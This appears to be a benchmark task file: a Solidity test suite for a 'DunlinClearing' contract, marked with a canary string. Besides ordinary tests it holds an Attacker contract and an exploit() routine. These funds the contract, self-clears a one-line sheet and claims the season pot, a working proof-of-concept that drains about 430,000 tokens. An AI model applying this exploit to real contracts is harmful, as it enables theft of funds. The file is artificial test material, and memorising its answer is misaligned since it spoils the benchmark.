// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./DunlinClearing.sol";

// assay-canary-6b4a742c-2e42-467c-a42c-abadb529613e

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
}

contract Token is IDollar {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A token that answers "false" where others revert.
contract Polite is IDollar {
    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant START = 683 * 30 days + 2 days;
    address internal constant MILL = address(0x3111);
    address internal constant FARM = address(0xFA43);

    Token internal usd;
    DunlinClearing internal dunlin;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        dunlin = new DunlinClearing(usd);
        _fund(MILL, 870_000_000e6);
        vm.prank(MILL);
        dunlin.clear(FARM, 866_200_000e6, "harvest");
        thief = new Attacker(dunlin, usd);
        usd.mint(address(thief), 42_000e6);
    }

    function _fund(address who, uint256 amount) internal {
        usd.mint(who, amount);
        vm.prank(who);
        usd.approve(address(dunlin), amount);
        vm.prank(who);
        dunlin.fund(amount);
    }

    function test_Regular() public {
        require(dunlin.potOf(683) == 433_100e6, "pot");
        vm.prank(FARM);
        require(dunlin.clear(MILL, 2_000_000e6, "seed") == 3_000e6, "fifteen points");
        address[] memory to = new address[](2);
        uint256[] memory amounts = new uint256[](2);
        (to[0], to[1]) = (MILL, address(0xABC));
        (amounts[0], amounts[1]) = (300_000e6, 200_000e6);
        vm.prank(FARM);
        require(dunlin.clearMany(to, amounts, "wages") == 750e6, "one fee");
        require(dunlin.balanceOf(address(0xABC)) == 200_000e6, "wages");

        vm.prank(MILL);
        (bool ok, ) = address(dunlin).call(abi.encodeCall(DunlinClearing.claim, (683)));
        require(!ok, "still running");
        vm.warp(START + 30 days);
        vm.prank(MILL);
        require(dunlin.claim(683) == 346_480e6, "four tenths");
        vm.prank(MILL);
        (ok, ) = address(dunlin).call(abi.encodeCall(DunlinClearing.claim, (683)));
        require(!ok, "twice");
        dunlin.collect();
        require(usd.balanceOf(address(this)) == 433_100e6 + 1_875e6, "house");
        vm.prank(address(0xABC));
        dunlin.leave(200_000e6);
    }

    function test_RefusesSheetsThatDoNotFit() public {
        vm.expectRevert(DunlinClearing.EmptySheet.selector);
        dunlin.clearMany(new address[](0), new uint256[](0), "");
        vm.expectRevert(DunlinClearing.LengthMismatch.selector);
        dunlin.clearMany(new address[](1), new uint256[](2), "");
        vm.expectRevert(DunlinClearing.LengthMismatch.selector);
        dunlin.clearMany(new address[](2), new uint256[](1), "");
    }

    function test_RefusesWhatTheDollarRefuses() public {
        DunlinClearing other = new DunlinClearing(new Polite());
        vm.expectRevert(DunlinClearing.TransferFailed.selector);
        other.fund(0);
        vm.expectRevert(DunlinClearing.TransferFailed.selector);
        other.leave(0);
    }

    function exploit() public {
        thief.enter();
        vm.warp(block.timestamp + 30 days);
        thief.collect(683);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 430_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(dunlin);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Pays itself with a sheet of one line.
contract Attacker {
    DunlinClearing internal dunlin;
    Token internal usd;

    constructor(DunlinClearing dunlin_, Token usd_) {
        dunlin = dunlin_;
        usd = usd_;
    }

    function enter() external {
        usd.approve(address(dunlin), 42_000e6);
        dunlin.fund(42_000e6);
        address[] memory to = new address[](1);
        uint256[] memory amounts = new uint256[](1);
        (to[0], amounts[0]) = (address(this), 40_000e6);
        dunlin.clearMany(to, amounts, "");
    }

    function collect(uint256 season) external {
        dunlin.claim(season);
        dunlin.leave(dunlin.balanceOf(address(this)));
    }
}
